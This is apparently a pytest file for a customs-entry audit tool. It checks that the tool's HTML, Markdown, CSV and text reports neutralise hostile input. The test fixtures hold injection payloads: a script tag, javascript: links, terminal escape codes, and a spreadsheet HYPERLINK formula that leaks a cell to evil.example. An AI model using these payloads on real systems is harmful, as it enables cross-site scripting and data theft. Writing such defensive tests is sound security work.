"""Renderers: hostile input stays inert in HTML, Markdown, CSV and text; output deterministic."""

import csv
import datetime as dt
import io
import re

import pytest

import t86audit
from t86audit.findings import Citation, Hit
from t86audit.registry import RuleRegistry
from t86audit.report.csv import COLUMNS, FORMULA_PREFIXES, neutralise
from t86audit.report.markdown import escape as md_escape
from t86audit.rules._base import Example, RulePack, rule
from t86audit.testing import make_entry, make_sample


AT = dt.datetime(2026, 1, 2, tzinfo=dt.UTC)

SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MD_TRAP = "| **bold** [click](javascript:alert(1)) `code` # _x_"


def hostile_report():
    """A report whose input values try to run script, formulas and Markdown."""
    entries = [
        make_entry(
            serial=1,
            value="950.00",
            consignee={"name": SCRIPT, "address": "1 Main Street\x1b[31m"},
            seller={"name": FORMULA, "address": "@SUM(1+1)", "country": "VN"},
            lines=[{"description": MD_TRAP, "value_usd": "950.00"}],
        ),
        make_entry(serial=2, consignee={"name": "-2+3", "address": "\t=cmd"}),
    ]
    return t86audit.audit(
        entries,
        samples=[make_sample(entries, method="cited")],
        select=["VAL001", "CON005"],
        generated_at=AT,
    )


def test_html_escapes_every_input_value():
    """No input value reaches the HTML as markup."""
    page = hostile_report().to_html()

    assert SCRIPT not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "javascript:" not in page.replace("javascript:alert(1)) `code`", "")
    assert not re.search(r"<a [^>]*href=\"javascript", page)
    assert "\x1b" not in page


def test_html_is_self_contained_and_printable():
    """One file: no scripts, no external assets; a CSP and print styles are included."""
    page = hostile_report().to_html()
    tags = re.findall(r"<(script|link|img|iframe|object|embed)\b", page, flags=re.IGNORECASE)

    assert page.startswith("<!DOCTYPE html>")
    assert tags == []
    assert "src=" not in page
    assert "Content-Security-Policy" in page
    assert "@media print" in page
    assert "@import" not in page


def test_html_links_only_http_citations():
    """A rule citation with a javascript: URL is shown as text, not as a link."""

    @rule(
        "ZZZ001",
        name="always-flags",
        severity="warning",
        citations=[
            Citation("Test", "1", url="javascript:alert(1)"),
            Citation("Law", "2", url="https://example.gov/law"),
        ],
        summary="Flags every entry.",
        rationale="For the test.",
        reasonable_care="None.",
        examples=[
            Example("flags", lambda: [make_entry()], flagged=["B76-0000001-5"]),
            Example("passes", list),
        ],
    )
    def always(entry, ctx):
        yield Hit(entry, message="flagged")

    registry = RuleRegistry([RulePack("zzz", "1.0", ["ZZZ"], [always])])
    report = t86audit.audit([make_entry()], registry=registry, generated_at=AT)
    page = report.to_html()
    markdown = report.to_markdown()

    assert 'href="https://example.gov/law"' in page
    assert 'href="javascript' not in page
    assert "](javascript" not in markdown
    assert "[Law 2](https://example.gov/law)" in markdown


def test_markdown_escapes_input_so_it_cannot_change_the_document():
    """Pipes, emphasis, links, code and HTML from the input are escaped in Markdown."""
    text = hostile_report().to_markdown()

    assert SCRIPT not in text
    assert "&lt;script&gt;" in text
    assert "[click](javascript" not in text
    assert md_escape(MD_TRAP) in text
    assert md_escape(MD_TRAP).count("\\|") == 1


def test_markdown_escape_keeps_one_line_and_table_cells_intact():
    """A value with newlines and pipes stays inside one table cell."""
    assert md_escape("a|b\nc") == "a\\|b c"
    assert md_escape("<b>&") == "&lt;b&gt;&amp;"
    assert md_escape("\x07bell") == "\ufffdbell"


def read_csv(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_one_row_per_finding_with_the_header():
    """The CSV header is COLUMNS and there is one row per finding."""
    report = hostile_report()
    rows = read_csv(report.to_csv())

    assert rows[0] == list(COLUMNS)
    assert len(rows) - 1 == len(report.findings)


def test_csv_neutralises_every_formula_like_cell():
    """No cell starts with a character a spreadsheet reads as a formula."""
    rows = read_csv(hostile_report().to_csv())
    cells = [cell for row in rows[1:] for cell in row]
    (val001,) = [row for row in rows[1:] if row[COLUMNS.index("code")] == "VAL001"]
    seller = val001[COLUMNS.index("seller")]

    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_PREFIXES)]
    assert seller == "'" + FORMULA


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-5.00", "'-5.00"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1", "'  =1"),
        ("a=b", "a=b"),
        ("", ""),
        ("Maria Lopez", "Maria Lopez"),
    ],
)
def test_neutralise_follows_owasp(value, expected):
    """Cells starting with = + - @ tab or CR get a leading single quote; others are unchanged."""
    assert neutralise(value) == expected


def test_text_report_has_no_control_characters():
    """Escape sequences from the input cannot drive the terminal."""
    text = hostile_report().to_text()

    assert "\x1b" not in text
    assert "\ufffd" in text
    assert not [c for c in text if not c.isprintable() and c != "\n"]


@pytest.mark.parametrize("fmt", ["text", "markdown", "html", "json", "csv"])
def test_rendering_is_a_pure_function_of_the_report(fmt):
    """Rendering the same report twice gives the same bytes."""
    report = hostile_report()

    assert report.render(fmt) == report.render(fmt)
    assert report.render(fmt) == hostile_report().render(fmt)


def test_every_section_appears_in_every_human_format():
    """Text, Markdown and HTML carry the cover, summary, sections and appendices in one order.

    The sections are numbered in order (another section may come between them).
    """
    report = hostile_report()
    sections = [
        "Filer codes",
        "Summary",
        "Charts",
        r"\d+\. Findings by rule",
        r"\d+\. Samples",
        r"\d+\. Patterns",
        r"\d+\. Letter response",
        r"\d+\. Waivers",
        r"\d+\. Audit trail",
        "Appendix A. Rules",
        "Appendix B. Entries",
        "Appendix C. Checks passed",
    ]
    for rendered in (report.to_text(), report.to_markdown(), report.to_html()):
        position = 0
        numbers = []
        for section in sections:
            found = re.compile(section).search(rendered, position)
            assert found, section
            position = found.end()
            if found.group(0)[0].isdigit():
                numbers.append(int(found.group(0).split(".")[0]))
        assert numbers == sorted(numbers)
        assert numbers[0] == 1
        assert "not legal advice" in rendered
